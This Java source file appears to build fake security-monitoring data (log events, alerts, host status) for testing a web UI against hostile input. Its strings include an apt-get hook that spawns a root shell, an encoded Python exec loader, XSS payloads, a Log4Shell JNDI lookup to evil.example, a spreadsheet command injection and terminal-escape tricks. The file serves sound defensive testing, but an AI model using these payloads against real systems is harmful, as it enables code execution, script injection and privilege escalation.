package dev.yagura.web;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** Made-up data, with what an attacker might put into a log. */
final class FakeData {

  static final String APT = "sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/sh";
  static final String LONG =
      "python3 -c \"import base64,zlib;exec(zlib.decompress(base64.b64decode('"
          + "eJxLzkksLlZIL0pNzStRSMsvUkhKLM5WSEktSFVIzs8tKEotLk5NAQBQ1g0K".repeat(40)
          + "')))\"";
  static final List<String> HOSTS =
      List.of("web01", "db-primary.prod.example.net", "bastion", "ビルド-02", "k8s-node-17");
  static final List<String> HOSTILE =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(2)>",
          "\"><svg onload=alert(3)>",
          "cat /tmp/\u202egnp.exe\u202c && echo done",
          "\u001b[31mred\u001b[0m\u0007 \u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007",
          "=cmd|' /C calc'!A0",
          "${jndi:ldap://evil.example/a}",
          "[[${7*7}]] __${7*7}__ #{login.title}",
          "javascript:alert(4)",
          "zero\u200bwidth\u2066isolate\u2069 nul\u0000byte",
          "ログイン失敗 ユーザー「管理者」 /srv/データ/報告書.xlsx",
          "مرحبا /etc/passwd שלום");

  private FakeData() {}

  static Counts counts(Instant from, Duration width, int slots, long scale, boolean gap) {
    Random random = new Random(7);
    List<Instant> starts = new ArrayList<>();
    List<Boolean> collected = new ArrayList<>();
    for (int i = 0; i < slots; i++) {
      starts.add(from.plus(width.multipliedBy(i)));
      collected.add(!(gap && i > slots / 3 && i < slots / 3 + 4));
    }
    Map<String, List<Long>> series = new LinkedHashMap<>();
    String[] names = {
      "linux_audit", "sysmon:linux", "linux_secure", "journald", "syslog", "<b>odd</b>\u202e"
    };
    for (int s = 0; s < names.length; s++) {
      List<Long> values = new ArrayList<>();
      for (int i = 0; i < slots; i++) {
        double day = 1 + 0.5 * Math.sin(i * 6.28 / Math.max(slots, 24));
        long value = (long) (scale / (1 + s * s) * day * (0.7 + random.nextDouble() * 0.6));
        values.add(collected.get(i) ? value : 0L);
      }
      series.put(names[s], values);
    }
    return new Counts(starts, width, series, collected);
  }

  static EventRow event(int number, Instant now) {
    Instant time = now.minusSeconds(60L * number + 17);
    String process =
        switch (number % 4) {
          case 0 -> APT;
          case 1 -> HOSTILE.get(number % HOSTILE.size());
          case 2 -> "/usr/sbin/sshd -D -R";
          default -> number % 8 == 3 ? LONG : "/bin/bash -c 'id; uname -a'";
        };
    Map<String, String> fields = new LinkedHashMap<>();
    if (number % 7 == 5) {
      fields.put("app", "sshd");
      fields.put("action", "failure");
      fields.put("user", HOSTILE.get(number % HOSTILE.size()));
      fields.put("src", "203.0.113.9");
    } else {
      fields.put("user", number % 3 == 0 ? "root" : "alice");
      fields.put("process", process);
      fields.put("process_name", "apt-get");
      fields.put("process_path", "/usr/bin/apt-get");
      fields.put("process_id", "4711");
      fields.put("parent_process_name", "bash");
      fields.put("process_current_directory", "/home/alice");
      fields.put("key", "privesc");
    }
    String raw =
        number % 7 == 5
            ? "Nov 25 03:12:44 bastion sshd[811]: Failed password for invalid user "
                + fields.get("user")
                + " from 203.0.113.9 port 51544 ssh2"
            : "type=SYSCALL msg=audit(1764040364.123:"
                + number
                + "): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 ppid=4700 pid=4711"
                + " auid=1000 uid=0 gid=0 ses=3 comm=\"apt-get\" exe=\"/usr/bin/apt-get\""
                + " key=\"privesc\"\ntype=EXECVE msg=audit(1764040364.123:"
                + number
                + "): argc=5 "
                + process;
    String type =
        number % 7 == 5 ? "linux_secure" : number % 2 == 0 ? "linux_audit" : "sysmon:linux";
    return new EventRow(
        "2-20261125-1-900-" + number,
        time,
        number % 11 == 4 ? time.plus(Duration.ofHours(7)) : time.plusSeconds(2),
        HOSTS.get(number % HOSTS.size()),
        "/var/log/audit/audit.log",
        type,
        number % 7 == 5 ? "Authentication" : "Endpoint.Processes",
        number % 13 == 6,
        fields,
        raw);
  }

  static EventModel eventModel(int number, Instant now) {
    EventRow event = event(number, now);
    Map<String, String> execve = new LinkedHashMap<>();
    execve.put("argc", "5");
    execve.put("a0", "sudo");
    execve.put("a1", "apt-get");
    execve.put("a4", HOSTILE.get(number % HOSTILE.size()));
    return new EventModel(
        event,
        number % 5 == 0 ? "localhost" : null,
        "main",
        number % 3 == 0 ? List.of("the record says localhost", HOSTILE.get(4)) : List.of(),
        event.sourcetype().equals("linux_audit")
            ? List.of(
                new EventModel.RecordModel("SYSCALL", Map.of("syscall", "59", "exit", "0")),
                new EventModel.RecordModel("EXECVE", execve))
            : List.of(),
        new EventModel.OriginModel("first", "/api/v1/logs", "812", List.of(17, 18)),
        event.raw().length(),
        number % 4 == 3);
  }

  static AlertRow alert(int number, Instant now) {
    List<String> severities = Words.SEVERITIES;
    String[] titles = {
      "Linux APT privilege escalation",
      "Reverse shell from an interactive shell with a redirected socket",
      "Several failed sign-ins and then a success from the same address",
      "Cron file written by a process that is not crontab",
      "audit 監査デーモンが停止されました <script>alert(5)</script>",
      "authorized_keys changed \u202eby evil"
    };
    boolean closed = number % 5 == 4;
    return new AlertRow(
        String.valueOf(1000 + number),
        "rule-" + number % 6,
        titles[number % titles.length],
        severities.get(number % 3 + (number % 7 == 6 ? 2 : 0)),
        closed ? "closed" : number % 3 == 1 ? "in_progress" : "new",
        closed ? "benign_true_positive" : null,
        HOSTS.get(number % HOSTS.size()),
        number % 2 == 0 ? "host" : "user",
        number % 2 == 0 ? HOSTS.get(number % HOSTS.size()) : HOSTILE.get(number % HOSTILE.size()),
        number % 4 == 3 ? List.of("T1110.001", "T1078") : List.of("T1548.003"),
        now.minusSeconds(3600L + 371L * number),
        now.minusSeconds(240L + 371L * number),
        1 + number * 37L % 12_345,
        number % 3 == 1 ? "alice" : null,
        now.minusSeconds(200L + 371L * number),
        number % 9 == 8,
        number % 4 == 0);
  }

  static HostRow host(int number, Instant now) {
    String[] states = {"active", "active", "silent", "clock_skew", "gaps"};
    return new HostRow(
        HOSTS.get(number),
        now.minus(Duration.ofDays(40 - number)),
        number == 2 ? now.minus(Duration.ofHours(3)) : now.minusSeconds(4 + 40L * number),
        now.minusSeconds(3 + 40L * number),
        states[number],
        2 + number % 3,
        120_000L / (number + 1),
        3_400_000_000L / (number + 1) / (number + 1),
        number * 3L);
  }
}
